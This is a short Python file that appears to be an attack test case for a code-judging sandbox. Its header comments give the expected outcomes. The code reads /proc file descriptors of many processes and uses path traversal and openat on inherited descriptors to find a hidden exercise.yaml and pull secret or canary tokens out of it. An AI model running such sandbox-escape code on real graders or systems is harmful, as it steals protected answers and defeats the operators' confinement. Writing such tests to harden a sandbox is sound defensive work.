# attack: goes through the open descriptors of every process, and openat from each of them
# verdict: WA
# on no_child_lists: WA | TLE
# either: it opens so many files, each of which has to be let through there, that a busy machine takes too long
# kata: secret
import os
import re

PATTERN = re.compile(rb"hidden-[0-9a-f]{16}|canary: [a-z]+")


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(1 << 20)
    except OSError:
        return b""


def places():
    for pid in ["self", *range(1, 300), @OUTSIDE@]:
        for descriptor in range(0, 64):
            yield read(f"/proc/{pid}/fd/{descriptor}/../../../../../..@EXERCISE@/exercise.yaml")
            yield read(f"/proc/{pid}/map_files/{descriptor}")
    for descriptor in range(3, 64):
        try:
            found = os.open("../../../../..@EXERCISE@/exercise.yaml", os.O_RDONLY, dir_fd=descriptor)
            yield os.read(found, 1 << 16)
        except OSError:
            pass


def secret(n):
    for found in places():
        match = PATTERN.search(found)
        if match:
            return match.group().decode()
    return "nothing found"
